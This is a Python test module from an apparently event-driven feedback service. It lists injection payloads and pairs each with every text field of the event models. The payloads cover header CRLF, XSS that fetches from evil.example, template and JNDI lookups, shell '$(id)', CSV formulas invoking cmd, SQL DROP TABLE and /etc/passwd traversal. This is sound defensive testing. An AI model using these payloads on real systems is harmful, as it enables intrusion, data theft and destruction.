"""Injection attacks as texts, and every field of an event or a body that can hold one."""

from collections.abc import Iterator, Sequence
from typing import Any, get_args

import pytest
from pydantic import BaseModel

from mid_job_feedback.domain import contract_events
from tests.soak import SOAK, either

ATTACK_TEXTS = {
    "header CRLF": "Eve\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>body</b>",
    "header LF": "Eve\nTo: victim@evil.example",
    "header folded": "Eve\r\n Bcc: victim@evil.example",
    "header encoded": "=?utf-8?q?Eve=0D=0ABcc:_victim@evil.example?=",
    "header percent": "Eve%0d%0aBcc:%20victim@evil.example",
    "header unicode": "Eve\u2028Bcc: victim@evil.example\u2029\x85Bcc: victim@evil.example\u560d\u560a",
    "html script": "<script>fetch('//evil.example')</script>",
    "html attribute": "\" onmouseover='alert(1)' x=\"",
    "html image": "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "html close": "</td></tr></table></body></html><h1>Hacked",
    "html comment": "<!-- --><![CDATA[<b>]]><!--[if mso]><b><![endif]-->",
    "html link": "<a href=javascript:alert(1)>http://evil.example/</a>",
    "html style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "html entities": "&lt;script&gt;&#60;b&#x3e;&amp;amp;",
    "template": "{{7*7}}{{ self.__init__.__globals__ }}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
    "format": "%s%n%x%(link)s{0}{link}\\1\\g<0>$0$&",
    "lookup": "${jndi:ldap://evil.example/a}$(id)`id`;id|id",
    "log line": 'x\n{"level":"INFO","message":"submit accepted","command":"submit"}',
    "log CR": "x\r\x1b[2K\x1b[1A2026-01-01 INFO all is well",
    "log ANSI": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m",
    "log null": "a\x00b\x08\x7f",
    "csv formula": '=HYPERLINK("http://evil.example","click")',
    "csv command": "=cmd|' /C calc'!A0",
    "csv plus": "+1+cmd|' /C calc'!A0",
    "csv minus": "-2+3+cmd|' /C calc'!A0",
    "csv at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv tab": "\t=1+1",
    "csv quote": '","=1+1","',
    "sql": "'; DROP TABLE feedback; --",
    "path": "../../../../etc/passwd\x00.html",
    "direction": "\u202eexe.fdp\u202c\u2066\u200f",
    "zalgo": "Z" + "\u0311\u0357" * 60,
    "invisible": "a\u200b\u200d\ufeff\u00adb",
}
SIMILAR = {  # to another one: tried in the long form only
    "header folded",
    "header percent",
    "html comment",
    "html style",
    "format",
    "lookup",
    "log CR",
    "csv plus",
    "csv minus",
    "csv tab",
    "sql",
    "zalgo",
    "invisible",
}
TRIED = {name: text for name, text in ATTACK_TEXTS.items() if SOAK or name not in SIMILAR}
FREE_TEXT_FIELDS = {"title", "name", "comment", "message"}
"""The fields that take any text. All others are validated."""
EVENTS = {
    "ContractStarted": "contract-started",
    "PaymentMade": "payment-made",
    "ContractEnded": "contract-ended",
    "EndOfContractFeedbackProvided": "end-of-contract-feedback",
}
"""The event file of each detail type."""

every_text = pytest.mark.parametrize("text", TRIED.values(), ids=TRIED.keys())

type FieldPath = tuple[str, ...]
type Model = type[BaseModel]


def event_models() -> dict[str, Model]:
    """The models of all accepted events, envelope included, by their event files."""
    union, *_ = get_args(contract_events.Envelope)
    models: dict[str, Model] = {}
    for model in get_args(union):
        [detail_type] = get_args(model.model_fields["detail_type"].annotation)
        models[EVENTS[detail_type]] = model
    return models


def fields_of(model: Model) -> Iterator[FieldPath]:
    """Every leaf field, so that the tests also cover a field that is added later."""
    for name, nested in _fields(model):
        if nested:
            yield from ((name, *rest) for rest in fields_of(nested))
        else:
            yield (name,)


def objects_of(model: Model) -> Iterator[FieldPath]:
    """Every object, where an unknown field could be added."""
    yield ()
    for name, nested in _fields(model):
        if nested:
            yield from ((name, *rest) for rest in objects_of(nested))


def replaced(sent: Any, path: FieldPath, value: Any) -> Any:
    """A copy with another value at this path."""
    if not path:
        return value
    first, *rest = path
    return {**sent, first: replaced(sent.get(first), tuple(rest), value)}


def sample[T](cases: Sequence[T], text: str) -> Sequence[T]:
    """A third of the cases in the quick form, another third for the next text; all in the long form."""
    parts = either(3, 1)
    return cases[list(TRIED.values()).index(text) % parts :: parts]


def _fields(model: Model) -> Iterator[tuple[str, Model | None]]:
    for name, field in model.model_fields.items():
        nested = field.annotation
        yield field.alias or name, nested if isinstance(nested, type) and issubclass(nested, BaseModel) else None
